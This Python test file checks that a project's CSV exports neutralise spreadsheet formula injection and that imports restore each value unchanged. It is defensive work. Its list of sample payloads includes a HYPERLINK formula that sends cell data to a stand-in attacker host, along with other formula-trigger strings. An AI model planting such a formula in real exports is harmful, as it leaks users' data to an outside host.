"""Exports are safe to open in a spreadsheet: a text cell that would run as a formula is written
behind an apostrophe (OWASP's CSV injection advice), and imported back as it was."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from iomhub.package import read_package
from iomhub.package.formulas import TRIGGERS, quote, unquote
from iomhub.web.audit.constants import Operation
from iomhub.web.audit.context import Actor, audited
from iomhub.web.exchange import export_package, import_package
from iomhub.web.performance.models import Indicator, PlanAction

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click me")', "@SUM(1+1)", "=1+1", "+44 20 7946 0000",
           "-5 days", "\tTabbed", "'=already protected by hand", "''=twice", "'plain apostrophe", "plain text"]


@pytest.mark.parametrize("text", HOSTILE)
def test_quoting_is_undone_exactly(text: str) -> None:
    assert unquote(quote(text)) == text
    assert quote(text)[:1] not in tuple(TRIGGERS)


@given(st.text())
def test_quoting_round_trips_any_text(text: str) -> None:
    safe = quote(text)
    assert unquote(safe) == text
    assert safe[:1] not in tuple(TRIGGERS)


def test_a_hostile_export_is_written_safely_and_imported_back_unchanged(nominal: Any, system: Actor,
                                                                        tmp_path: Path) -> None:
    with audited(system) as audit:
        nominal.family_name = HOSTILE[0]
        nominal.given_names = HOSTILE[1]
        nominal.save()
        audit.record(Operation.ALTERATION, nominal)
        for n, text in enumerate(HOSTILE):
            audit.record(Operation.COLLECTION, PlanAction.objects.create(
                action_id=f"A{n}", milestone=f"Milestone {n}", comment=text, due="2016-Q1",
                updated_on=date(2016, 1, 1)))
        indicator = Indicator.objects.create(indicator_id="IOM1", title=HOSTILE[2], owner=HOSTILE[3])
        audit.record(Operation.COLLECTION, indicator)
    export_package(tmp_path / "out", system, "formula test", "the test suite")

    cells = [cell for path in (tmp_path / "out").glob("*.csv")
             for row in csv.reader(path.open(encoding="utf-8", newline="")) for cell in row]
    dangerous = [cell for cell in cells if cell[:1] in tuple(TRIGGERS)]
    assert dangerous == [], "cells a spreadsheet would run as formulas"
    assert "'" + HOSTILE[0] in cells and "'@SUM(1+1)" in cells and "''=already protected by hand" in cells

    package = read_package(tmp_path / "out")
    assert package.tables["actions"].sort("action_id")["comment"].to_list() == HOSTILE
    assert package.tables["nominals"]["family_name"].to_list() == [HOSTILE[0]]
    again = import_package(package, system)
    assert (again.created, again.updated) == (0, 0), "a value came back different"
